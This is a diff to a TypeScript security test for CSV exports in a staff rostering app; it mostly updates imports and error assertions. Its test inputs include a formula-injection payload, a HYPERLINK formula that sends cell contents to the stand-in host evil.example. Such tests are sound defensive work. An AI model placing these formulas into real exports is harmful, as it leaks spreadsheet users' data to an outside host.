@@ -5,7 +5,7 @@
  * single quote (OWASP rule) while numeric columns keep plain (negative) numbers.
  */
 import { parse } from 'csv-parse/sync';
-import { csvCellText } from '../../src/export/csv.writer';
+import { csvCellText } from '../../src/export/csv-writer';
 import { startTestApp, type TestApp } from '../helpers/test-app';
 import {
   availabilityDoc,
@@ -13,8 +13,9 @@ import {
   generateVariables,
   seedRosterSite,
 } from '../integration/rostering/roster.seed';
-import { AVAILABILITY, type AvailabilityDoc } from '../../src/staff/staff.model';
+import { AVAILABILITY, type AvailabilityDoc } from '../../src/staff/staff.doc';
 import { HOURLY } from '../integration/forecasting/forecast-fixtures';
+import { expectOk } from '../helpers/expect-ok';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -75,7 +76,7 @@ describe('security #10: CSV exports neutralise formulas', () => {
         },
         manager,
       );
-      expect(res.errors).toBeUndefined();
+      expectOk(res);
       // the API trims names, so `\t=1+1` is stored as `=1+1`: still a formula to neutralise
       expect(res.data!.createStaff.name).toBe(name.trim());
       stored.push(res.data!.createStaff.name);
@@ -85,7 +86,7 @@ describe('security #10: CSV exports neutralise formulas', () => {
       .collection<AvailabilityDoc>(AVAILABILITY)
       .insertMany(ids.map((id) => availabilityDoc(id)));
     const job = await t.gql<{ generateRoster: { id: string } }>(GENERATE, generateVariables(), manager);
-    expect(job.errors).toBeUndefined();
+    expectOk(job);
     const done = await t.services.rosterJobs.settled(job.data!.generateRoster.id);
     expect({ state: done.state, error: done.error }).toEqual({ state: 'SUCCEEDED', error: null });
 
